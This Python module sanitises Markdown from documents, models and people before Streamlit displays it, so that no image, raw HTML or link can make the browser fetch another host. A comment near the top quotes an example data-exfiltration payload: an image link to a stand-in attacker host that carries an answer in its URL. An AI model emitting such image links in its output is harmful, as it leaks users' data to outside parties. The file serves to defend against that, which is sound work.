"""Text from documents, models and people, made safe for st.markdown: shown as written, except
that nothing in it can make the reader's browser load anything. Every part of the page that
shows such text goes through `as_markdown` (or `as_code` for a path)."""

from __future__ import annotations

import re
from urllib.parse import quote, urlsplit

# A document or a model may write Markdown that makes the reader's browser fetch another host
# without a click: an image `![](https://attacker.example/?d=...)` carries the answer away in its
# address. Rather than recognise every dangerous construct (and miss one the browser's parser
# sees differently), the text is escaped so that no image, Markdown link, reference definition,
# raw HTML or formula can form, and only the inline links found here are rebuilt, with their host
# shown (a bare web address stays a link that shows itself). Ordinary prose (`[1]` marks,
# `**bold**`, lists) is left as it is.
_UNSAFE = re.compile(
    r"\\"  # a backslash of the text must not cancel an escape added here
    r"|\$"  # a LaTeX formula
    r"|<"  # raw HTML, an autolink
    r"|!(?=[\[\uE000])"  # an image, also in front of a rebuilt link
    r"|\](?=[(:])"  # an inline link or image `](`, a reference definition `]:`
)
_INLINE_LINK = re.compile(
    r"(?P<image>!?)\[(?P<label>[^\[\]\n]{0,500})\]"
    r"\(\s*<?(?P<url>[^\s<>()]{1,2000})>?(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'))?\s*\)"
)
# Where a rebuilt link goes while the text around it is escaped (private-use characters, which
# are taken out of the text first, and digits: nothing the escaping touches).
_SLOT = re.compile("\ue000(\\d+)\ue001")
_URL_SAFE = "/:?#@!&'*+,;=%-._~"  # the rest is percent-encoded: no parenthesis, `<`, `$` or backslash


def _escaped(text: str) -> str:
    return _UNSAFE.sub(lambda match: "\\" + match.group(0), text)


def _host(url: str) -> str | None:
    """``host[:port]`` of an http(s) address; None for any other scheme or a malformed one."""
    try:
        parts = urlsplit(url)
        port = parts.port
    except ValueError:
        return None
    if parts.scheme.lower() not in ("http", "https") or not parts.hostname:
        return None
    return parts.hostname + (f":{port}" if port else "")  # the user info before `@` is not the host


def as_markdown(text: str, one_line: bool = False) -> str:
    """Markdown for st.markdown that shows ``text`` (from a document, a model or a person) as
    written, except that nothing in it can make the browser load anything: an image is named,
    not shown, and a web link keeps working with its host written after it. ``one_line`` for a
    title, a section or a snippet, where a line break would start a Markdown block."""
    text = text.replace("\ue000", "\ufffd").replace("\ue001", "\ufffd")
    if one_line:
        text = " ".join(text.split())
    links: list[str] = []

    def rebuilt(match: re.Match[str]) -> str:
        label, url = " ".join(match["label"].split()), match["url"]
        host = _host(url)
        if match["image"]:
            return f"[image '{label}' from {host or url}, not loaded]"
        if host is None:  # relative, mailto:, javascript:...: its text and address, not clickable
            return f"{label} ({url})" if label else url
        links.append(f"[{_escaped(label or host)}]({quote(url, safe=_URL_SAFE)}) ({_escaped(host)})")
        return f"\ue000{len(links) - 1}\ue001"

    # Escaped as a whole, after the rebuilding: a construct may span a rebuilt part and the text.
    escaped = _escaped(_INLINE_LINK.sub(rebuilt, text))
    return _SLOT.sub(lambda slot: links[int(slot[1])], escaped)


def as_code(text: str) -> str:
    """An inline code span showing ``text`` literally (a path): a backtick in the text cannot
    close it, and a line break, which would end the paragraph, becomes a space."""
    text = " ".join(text.split())
    fence = "`" * (max((len(run) for run in re.findall(r"`+", text)), default=0) + 1)
    padding = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{fence}{padding}{text}{padding}{fence}"
